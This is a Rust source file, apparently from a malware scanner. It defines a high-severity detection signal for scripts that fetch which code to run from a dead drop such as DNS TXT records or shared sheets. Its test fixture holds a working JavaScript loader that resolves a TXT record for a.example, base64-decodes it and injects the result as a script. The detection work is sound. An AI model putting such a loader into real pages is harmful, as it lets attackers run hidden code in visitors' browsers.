//! `code-from-dead-drop`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "code-from-dead-drop",
    description: "The script looks up in a shared sheet, a chat channel or a name server which code to load or run.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::DeadDrop]),
        one(&[Atom::RemoteRun, Atom::AnswerRun, Atom::ScriptFromAnswer, Atom::AnswerNavigates]),
    ],
    within: 300,
    only_if: Some(is_run_or_hidden),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://dns.google/resolve?name=a.example&type=TXT').then(r=>r.json()).then(function(j){var s=document.createElement('script');s.src=atob(j.Answer[0].data);document.head.appendChild(s)})",
        ],
        without: &[
            "fetch('https://docs.google.com/spreadsheets/d/x/gviz/tq').then(r=>r.text()).then(show)",
            r#"fetch('https://docs.google.com/spreadsheets/d/x/gviz/tq').then(r=>r.json()).then(t=>{const row=t.rows.find(r=>r.k===slug);location.href=row.to})"#,
        ],
    },
};

/// Whether more is looked up in a sheet than where a short link leads.
fn is_run_or_hidden(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    near.has_fact(&[Atom::RemoteRun, Atom::AnswerRun, Atom::ScriptFromAnswer])
        || near.places().any(|at| {
            near.has_fact_in(at..at + 1, &[Atom::DeadDrop])
                && !["spreadsheets", "sheets.", "gviz"].iter().any(|sheet| near.word(at).contains(sheet))
        })
}
